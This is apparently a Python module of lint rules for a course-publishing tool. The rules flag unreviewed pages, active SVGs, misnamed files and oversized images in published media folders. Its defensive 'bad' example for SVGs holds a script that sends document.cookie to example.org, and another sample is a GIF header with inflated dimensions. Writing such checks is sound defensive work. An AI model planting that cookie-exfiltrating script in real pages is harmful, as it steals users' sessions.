"""What stands in the folder media/ of a module or in content/, and would be published whether a lesson names it or not."""

from __future__ import annotations

from collections.abc import Iterator
from functools import lru_cache
from pathlib import Path, PurePosixPath

from alongside.files.located import Place
from alongside.load.layers import media_files
from alongside.media.published import Wrong, wrong_with
from alongside.model.curriculum import Curriculum
from alongside.rules.rule import Check, Context, Finding, Rule


def _published(curriculum: Curriculum) -> Iterator[tuple[Path, str]]:
    """The files in media/ of every module and in content/, and how messages call them."""
    for module in curriculum.modules.values():
        label = PurePosixPath(module.outline.place().file).parent
        for path in media_files(module):
            yield path, str(label / path.relative_to(module.folder).as_posix())
    for file in curriculum.files.values():
        yield file.path, file.label


@lru_cache(maxsize=4096)
def _judged(path: Path, changed: int, size: int) -> tuple[Wrong, ...]:
    """What is wrong with a file. Each rule asks; the file is read once, and once more after it has changed."""
    del changed, size
    return tuple(wrong_with(path))


def broken(code: str) -> Check:
    """The check of every published file, whether anything names it or not, by one of the rules for files."""

    def in_files(curriculum: Curriculum, context: Context) -> Iterator[Finding]:
        for path, label in _published(curriculum):
            try:
                status = path.stat()
            except OSError:  # it has gone since it was found
                continue
            for wrong in _judged(path, status.st_mtime_ns, status.st_size):
                if wrong.code == code:
                    yield Finding(wrong.message, Place(label, wrong.line, wrong.column), wrong.expected, wrong.fix)

    return in_files


RULES: tuple[Rule, ...] = (
    Rule(
        "Y111",
        "media-kind",
        "error",
        "curriculum",
        "a file in media/ or content/ that is no picture, recording, captions or page",
        "Everything in media/ and content/ is published. A page or a script among it would be a page of the site that nobody reviewed, "
        "and could read what the browser keeps for learners. Move the file elsewhere, or delete it.",
        bad="""\
modules/listening/media/game.html: |
  <p>A game.</p>
""",
        good="""\
modules/listening/media/talk.vtt: |
  WEBVTT

  00:00.000 --> 00:04.000
  I nearly did not come.
""",
        check=broken("Y111"),
    ),
    Rule(
        "Y112",
        "drawing-active",
        "error",
        "curriculum",
        "an SVG picture that holds more than a drawing, or one that is too dear to draw",
        "Opened by itself, an SVG file is a page of the site: script in it runs, links lead away, and what it names is fetched "
        "from other servers. So only shapes, text, colours and effects are let through. "
        "Drawing programs call that “plain SVG”. A drawing that repeats its parts a million times stops the page that shows it, "
        "however small its file is.",
        bad="""\
modules/listening/media/ladder.svg: |
  <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8">
    <script>fetch("https://example.org/?" + document.cookie)</script>
    <path d="M0 0h8v8H0z"/>
  </svg>
""",
        good="""\
modules/listening/media/ladder.svg: |
  <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8">
    <title>A square</title>
    <path d="M0 0h8v8H0z"/>
  </svg>
""",
        check=broken("Y112"),
    ),
    Rule(
        "Y113",
        "file-not-its-kind",
        "error",
        "curriculum",
        "a file in media/ or content/ that is something else than its name says",
        "Browsers go by the name. A file that is something else shows as a gap, and may be a page or a program that was given "
        "another name so that nobody looks at it. Save it in the form that its name says, or rename it.",
        bad="""\
modules/listening/media/ladder.png: |
  <p>A page.</p>
""",
        good="""\
modules/listening/media/ladder.svg: |
  <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><path d="M0 0h8v8H0z"/></svg>
""",
        check=broken("Y113"),
    ),
    Rule(
        "Y114",
        "file-too-dear",
        "error",
        "curriculum",
        "a file in media/ or content/ that costs learners too much",
        "Many learners read on an old phone and pay for what they load. A picture takes memory by its points, not by the size "
        "of its file: one of 60,000 by 60,000 points can be small and still stop a phone. Save the picture as large as it is shown.",
        bad="""\
modules/listening/media/ladder.gif: "GIF89aBBBB;"
""",
        good="""\
modules/listening/media/ladder.svg: |
  <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><path d="M0 0h8v8H0z"/></svg>
""",
        check=broken("Y114"),
    ),
)
